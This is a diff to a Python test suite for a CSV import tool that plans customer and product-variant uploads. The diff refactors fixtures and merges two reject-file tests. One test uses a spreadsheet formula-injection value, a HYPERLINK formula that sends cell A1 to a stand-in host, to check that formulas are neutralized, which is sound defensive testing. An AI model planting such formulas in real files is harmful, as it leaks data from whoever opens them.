@@ -9,7 +9,6 @@ import shutil
 import subprocess
 import sys
 from collections.abc import Iterator
-from contextlib import contextmanager
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
@@ -38,7 +37,7 @@ from sources.errors import ExitCode, UsageError
 from sources.files import encoding
 from sources.files.formulas import neutralize, people_rows
 from sources.kinds import KindName
-from tests.pipelines.bridge import Bridge, bridge, command, pulled
+from tests.pipelines.bridge import Bridge, command, pulled
 
 FEW: dict[str, Any] = {"customers": 6, "orders": 0, "promotions": 1, "price_lists": 1}
 HOST = "http://127.0.0.1:9"
@@ -258,25 +257,14 @@ def test_lines_that_say_the_same_are_sent_once_and_contradictions_not_at_all(wor
     assert "the same key with other values: line 3 has the same Producto" in made.statistics.reasons[0].words
 
 
-def test_problems_of_columns_named_with_the_sign_between_problems_are_reported_apart(work: Path) -> None:
-    mapping = VARIANTS.replace('"PVP" = "price"', '"PVP | IVA" = "price"\n"Color | Talla" = "attributes.Color | Talla"')
-    rows = "Producto;Variante;Código;PVP | IVA;Existencias;Color | Talla\n17;3;A;x;y;#N/A\n17;4;B;1;2;R\n"
-    made = planned("variants", work, rows, mapping)
-    assert sorted((reason.field, reason.code, reason.first) for reason in made.statistics.reasons) == [
-        ("attributes.Color / Talla", "cell_error", [2]),
-        ("price", "not_a_number", [2]),
-        ("stock", "not_a_number", [2]),
-    ]
-    adds_up(made)
-
-
 def test_the_reject_file_corrected_goes_through_as_it_is_and_is_read_as_the_whole_file_was(work: Path) -> None:
-    mapping = VARIANTS.replace('decimal = ","\nthousands = "."\n', "")
-    # the first price proves how they are written
-    made = variants(work, "1;1;Ñ1;1.234,5;x\n1;2;b;1.234;x\n1;3;c;3,5;3\n", mapping, out=work / "first")
-    assert (made.exit_code, fates(made)) == (5, dict.fromkeys((2, 3), ("rejected", "not_a_number")))
+    mapping = VARIANTS.replace('decimal = ","\nthousands = "."\n', "").replace("PVP", "PVP | IVA")
+    rows = "Producto;Variante;Código;PVP | IVA;Existencias\n1;1;Ñ1;1.234,5;x\n1;2;b;1.234;x\n1;3;c;3,5;3\n1;4;#N/A;y;\n"
+    made = planned("variants", work, rows, mapping, out=work / "first")  # the first price proves how they are written
+    assert (made.exit_code, [reason.lines for reason in made.statistics.reasons]) == (5, [2, 1, 1])
+    assert {reason.field for reason in made.statistics.reasons} == {"stock", "sku", "price"}
     header, _, line, *_ = (made.folder / "rejects.csv").read_bytes().splitlines(keepends=True)
-    assert header == "Producto;Variante;Código;PVP;Existencias;line;field;code;words\r\n".encode("cp1252")
+    assert header == "Producto;Variante;Código;PVP | IVA;Existencias;line;field;code;words\r\n".encode("cp1252")
     (work / "fixed.csv").write_bytes(header + line.replace(b";x;", b";2;"))
     again = make_plan(PlanOptions("variants", work / "fixed.csv", made.folder / "mapping.toml"))
     assert (again.exit_code, bodies(again)) == (0, [{"sku": "b"}, {"price": 1234, "stock": 2}])
@@ -435,27 +423,13 @@ def test_what_was_created_before_is_not_created_again(
     assert ("created before with other values" in summary_of(second)) == (fate == "exists_differs")
 
 
-@contextmanager
-def working(platform: Bridge) -> Iterator[Bridge]:
-    """A folder to plan in."""
-    os.environ |= {"SOURCES__LEGACY__LOGIN_MODE": "email"}
-    work = platform.folder.parent / "work"
-    work.mkdir()
-    os.chdir(work)
-    yield platform
-
-
 @pytest.fixture
 def platform(tmp_path: Path) -> Iterator[Bridge]:
     """A sandbox that was pulled, and a folder to plan in."""
-    with pulled(tmp_path, **FEW) as made, working(made):
-        yield made
-
-
-@pytest.fixture
-def unread(tmp_path: Path) -> Iterator[Bridge]:
-    """The same before the pull."""
-    with bridge(tmp_path, **FEW) as made, working(made):
+    with pulled(tmp_path, **FEW) as made:
+        os.environ["SOURCES__LEGACY__LOGIN_MODE"] = "email"
+        (work := made.folder.parent / "work").mkdir()
+        os.chdir(work)
         yield made
 
 
@@ -529,14 +503,14 @@ def test_new_customers_that_may_be_known_ones_are_pointed_out(platform: Bridge) 
 
 
 def test_what_others_typed_into_the_platform_is_counted_and_no_cell_of_a_plan_runs_in_a_spreadsheet(
-    unread: Bridge,
+    platform: Bridge,
 ) -> None:
     """A row that is refused; and a formula as a name, there and in the file."""
     formula = '=HYPERLINK("http://x.test/?"&A1)'
     quoted = formula.replace('"', '""')
-    unread.platform.state.add("customers", {"erpCode": "E007", "birthdate": 7})
-    unread.platform.state.add("customers", {"erpCode": "E1", "firstName": formula, "email": "e1@x.es"})
-    unread.pull("customers")
+    platform.platform.state.add("customers", {"erpCode": "E007", "birthdate": 7})
+    platform.platform.state.add("customers", {"erpCode": "E1", "firstName": formula, "email": "e1@x.es"})
+    platform.pull("customers")
     made = customers(f'E1;Ana;e1@x.es;;\nE2;-5;no;;\nE3;"{quoted}";;;\nE007;Ana;ana@example.com;;N1\n')
     assert made.manifest.read is not None
     assert (made.manifest.read.rows, made.manifest.read.refused) == (7, 1)
